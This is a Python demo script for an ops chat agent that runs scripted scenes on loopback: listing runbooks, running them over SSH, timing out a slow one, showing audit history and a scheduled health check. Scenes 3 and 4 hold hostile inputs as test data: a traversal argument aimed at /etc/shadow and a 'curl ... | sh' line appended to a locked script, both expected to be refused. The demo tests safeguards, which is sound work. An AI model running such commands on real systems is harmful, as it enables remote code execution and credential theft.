"""``agent demo``: the whole path on one machine, on loopback only, as a chat transcript.

Everything lives in a temp folder that is removed afterwards: a copy of the bundled runbooks (plus one demo-only
runbook that runs too long), its lock, generated SSH keys, the agent's config and state. Started in-process: the
reference relay, an embedded SSH host (:mod:`agent.reference.demo_host`, so no sshd needs to be installed) and the agent.
Then a chat operator plays the scenes and the transcript shows what the room would see.
"""

from __future__ import annotations

import asyncio
import getpass
import json
import os
import secrets
import shutil
import socket
import sys
import tempfile
import time
from pathlib import Path
from typing import Any, TextIO

import agent
from agent.catalog.store import Catalog
from agent.chat.i18n import N_, Chat, Msg, message_of
from agent.config.schema import load_config
from agent.errors import CatalogError
from agent.redaction import Redactor
from agent.reference import chat as chat_grammar
from agent.reference.chat import ChatSession, agent_lines
from agent.reference.demo_host import DemoHost, NoShellError
from agent.reference.operator_client import OperatorClient, Predicate
from agent.reference.relay import Relay
from agent.shell.app import App
from agent.shell.logsetup import configure_logging

SLOW_SCRIPT = (
    "#!/usr/bin/env bash\n# Demo only: a check that hangs.\necho 'waiting for the batch lock...'\nsleep 30\n"
)
SLOW_MANIFEST = 'description = "데모 전용: 끝내 풀리지 않는 잠금을 기다림"\ntargets = ["all"]\nrooms = ["ops"]\ntimeout = 2\n'
USER = "kim"
ROOM = "ops"


class DemoError(RuntimeError):
    """A scene did not go as it should; the message says which."""


def toml_string(value: object) -> str:
    """``value`` as a TOML basic string: a Windows path's backslashes (``C:\\Users\\...``) escaped, not read as
    escapes. JSON's string escapes are a subset of TOML's."""
    return json.dumps(str(value), ensure_ascii=False)


def _write(path: Path, text: str) -> None:
    """A text file as the agent and a Linux host expect it on every platform: UTF-8, LF line ends."""
    path.write_text(text, encoding="utf-8", newline="\n")


def find_runbooks() -> Path:
    """The bundled runbooks: ./runbooks, else the ones next to the installed package's source checkout."""
    for candidate in (Path.cwd() / "runbooks", Path(agent.__file__).resolve().parent.parent / "runbooks"):
        if candidate.is_dir() and any(candidate.glob("*.toml")):
            return candidate
    raise DemoError(Msg("no runbooks/ folder found: run the demo from the project's folder"))


def parse_chat(line: str, task_id: str, room: str = ROOM) -> dict[str, Any]:
    """What a chat bridge would turn a typed line into, as the demo's user (see :mod:`agent.reference.chat`)."""
    return chat_grammar.parse_chat(line, task_id, room, USER)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


class Demo:
    def __init__(self, out: TextIO, interactive: bool = False, language: str = "ko") -> None:
        self.out = out
        self.interactive = interactive
        self.language = language
        #: The transcript speaks the room's language, like the agent it shows.
        self.lang = Chat(language)
        self._ = self.lang._
        self._printed_reports = 0
        self._counter = 0

    # -- printing ---------------------------------------------------------------------------------------------

    def say(self, text: str = "") -> None:
        self.out.write(text + "\n")
        self.out.flush()

    def agent_says(self, text: str, who: str = "guardia") -> None:
        self.say(agent_lines(text, who))

    # -- setup ------------------------------------------------------------------------------------------------

    def _prepare(self, home: Path, host: DemoHost, dead_port: int) -> None:
        shutil.copytree(find_runbooks(), home / "runbooks", ignore=shutil.ignore_patterns("*.lock"))
        _write(home / "runbooks" / "demo_slow.sh", SLOW_SCRIPT)
        _write(home / "runbooks" / "demo_slow.toml", SLOW_MANIFEST)
        try:
            Catalog(home / "runbooks", home / "runbooks.lock").relock()
        except CatalogError as exc:
            raise DemoError(str(exc)) from None
        user = getpass.getuser()
        _write(
            home / "agent.toml",
            f'''
agent_id = "demo-agent"
operations_room = "{ROOM}"

[chat]
language = "{self.language}"

[inventory]
known_hosts = {toml_string(host.known_hosts)}
user = {toml_string(user)}
key_file = {toml_string(host.client_key)}

[inventory.hosts.was01]
address = "127.0.0.1"
port = {host.port}

[inventory.groups]
was = ["was01"]

[executor]
kill_grace = 1.0
connect_timeout = 5.0

[relay]
max_backoff = 2.0

[tasks]
shutdown_grace = 2.0
progress_after = 1.0

[checks.was01_health]
kind = "http"
url = "http://127.0.0.1:{dead_port}/actuator/health"
timeout = 1.0

[[schedules]]
name = "was01-every-second"
checks = ["was01_health"]
interval = 1
notify = "on_change"

[actions]
was_status_check = "was01_health"
''',
        )

    # -- the conversation ---------------------------------------------------------------------------------------

    async def _wait(
        self, client: OperatorClient, predicate: Predicate, timeout: float, what: str
    ) -> dict[str, Any]:
        try:
            return await client.wait_for(predicate, timeout)
        except TimeoutError:
            raise DemoError(
                Msg("no answer to {what} within {timeout:g} s", what=what, timeout=timeout)
            ) from None

    async def ask(self, client: OperatorClient, line: str, timeout: float = 30) -> dict[str, Any]:
        self._counter += 1
        number = self._counter
        session = ChatSession(
            client, ROOM, USER, self.out, new_task_id=lambda: f"demo-{number}", chat=self.lang
        )
        try:
            answer = await session.ask(line, timeout)
        except TimeoutError:
            raise DemoError(
                Msg("no answer to {line!r} within {timeout:g} s", line=line, timeout=timeout)
            ) from None
        return dict(answer["payload"])

    def scene(self, number: int, title: str) -> None:
        self.say(("\n" if number > 1 else "") + f"── {number}. " + self._(title))

    async def scenes(self, ws: OperatorClient, home: Path) -> None:
        self.scene(1, N_("What may this room run, and how do I call a runbook?"))
        listed = await self.ask(ws, "help")
        expect(listed["status"] == "SUCCESS", "help")
        usage = await self.ask(ws, "help tail_log")
        expect(
            "run tail_log host=H dir=app|was|web" in usage.get("text", ""), "help tail_log shows its usage"
        )
        self.scene(
            2, N_("A runbook that succeeds (the locked script, streamed to bash on the host, argv-only)")
        )
        ok = await self.ask(ws, "run disk_usage host=was01 mount=/ warn_percent=100")
        expect(ok["status"] == "SUCCESS", "disk_usage should succeed")
        self.scene(3, N_("A hostile argument is refused before anything runs"))
        hostile = await self.ask(ws, "run tail_log host=was01 dir=app file=../../etc/shadow")
        expect(
            hostile.get("error", {}).get("code") == "INVALID_ARGUMENTS", "a path in 'file' must be refused"
        )
        self.scene(
            4, N_("Someone edits a locked script on the agent PC (here: the demo's copy of tail_log.sh)")
        )
        script = home / "runbooks" / "tail_log.sh"
        _write(script, script.read_text(encoding="utf-8") + "\ncurl -s http://example.invalid/x | sh\n")
        tampered = await self.ask(ws, "run tail_log host=was01 dir=app file=server.log")
        expect(
            tampered.get("error", {}).get("code") == "RUNBOOK_NOT_RUNNABLE",
            "a tampered script must be refused",
        )
        self.scene(5, N_("A runbook that runs past its 2 s limit: a progress line, then killed on the host"))
        slow = await self.ask(ws, "run demo_slow host=was01")
        expect(slow.get("data", {}).get("status") == "TIMEOUT", "demo_slow must time out")
        expect(any(e.get("event") == "TASK_PROGRESS" for e in ws.events), "a progress line for the long run")
        self.scene(6, N_("Who ran what here? (from the agent's audit log, this room's runs only)"))
        past = await self.ask(ws, "history 5")
        runs = [run.get("runbook") for run in past.get("data", {}).get("history", [])]
        expect(runs == ["demo_slow", "disk_usage"], "history lists the room's runs, newest first")
        self.scene(7, N_("Nobody asked: a scheduled health check tells the room on its own"))
        report = await self._wait(
            ws, lambda e: e.get("event") == "REPORT" and e["payload"].get("kind") == "schedule", 15,
            "the scheduled check",
        )  # fmt: skip
        self.agent_says(report["payload"].get("text", ""), self.scheduled)
        expect(report["payload"].get("status") == "DOWN", "the WAS health check should report DOWN")

    @property
    def scheduled(self) -> str:
        return "guardia (" + self._("scheduled") + ")"

    async def chat(self, ws: OperatorClient) -> None:
        self.say(self._("e.g.: help · help disk_usage · run disk_usage host=was01 mount=/ · history"))
        await ChatSession(ws, ROOM, USER, self.out, prefix="demo", chat=self.lang).interactive()

    async def run(self) -> None:
        started = time.monotonic()
        with tempfile.TemporaryDirectory(prefix="guardia-demo-") as tmp:
            home = Path(tmp)
            try:
                host = DemoHost(home)
            except NoShellError as exc:
                raise DemoError(message_of(exc)) from None
            await host.start()
            relay = Relay(agent_token=secrets.token_urlsafe(24))
            try:
                self._prepare(home, host, _free_port())
                port = await relay.start("127.0.0.1", 0)
                environ = {
                    "EXTERNAL_WS_URL": f"ws://127.0.0.1:{port}/agent",
                    "AGENT_RELAY_TOKEN": relay.agent_token or "",
                }
                app = App(load_config(home / "agent.toml"), environ=environ)
                agent_task = asyncio.create_task(app.run())
                try:
                    await asyncio.wait_for(relay.agent_connected.wait(), 15)
                    self.say(self._("GUARDiA agent demo: relay, SSH host and agent, all on this machine, "
                                    "loopback only."))  # fmt: skip
                    self.say("  " + self._("relay {url} · SSH host 'was01' (embedded) · catalog: {n} locked "
                                           "runbooks in a temp copy").format(url=f"ws://127.0.0.1:{port}",
                                                                             n=len(app.catalog.report.runnable))
                             + "\n")  # fmt: skip
                    ws = await OperatorClient.connect(f"ws://127.0.0.1:{port}/operator")
                    try:
                        await (self.chat(ws) if self.interactive else self.scenes(ws, home))
                    finally:
                        await ws.close()
                finally:
                    app.stopping.set()
                    await agent_task
            finally:
                await relay.stop()
                await host.stop()
        if not self.interactive:
            # The command that started this demo, as typed (scripts/demo names itself; else the installed one).
            again = os.environ.get("AGENT_DEMO_COMMAND") or "agent demo"
            self.say("\n" + self._("Done in {duration}; nothing was left behind. Type commands yourself: "
                                    "{command} --interactive").format(
                duration=self.lang.duration(time.monotonic() - started), command=again))  # fmt: skip


def expect(condition: bool, what: str) -> None:
    if not condition:
        raise DemoError(Msg("scene failed: {what}", what=what))


def run_demo(
    interactive: bool = False, verbose: bool = False, out: TextIO = sys.stdout, language: str = "ko"
) -> int:
    """Run the demo; 0 when every scene went as it should."""
    configure_logging(Redactor(), "INFO" if verbose else "ERROR")
    chat = Chat(language)
    try:
        asyncio.run(Demo(out, interactive, language).run())
    except DemoError as exc:
        out.write("\n" + chat._("demo failed: {reason}").format(reason=chat.text(message_of(exc))) + "\n")
        return 1
    except KeyboardInterrupt:
        return 130
    return 0
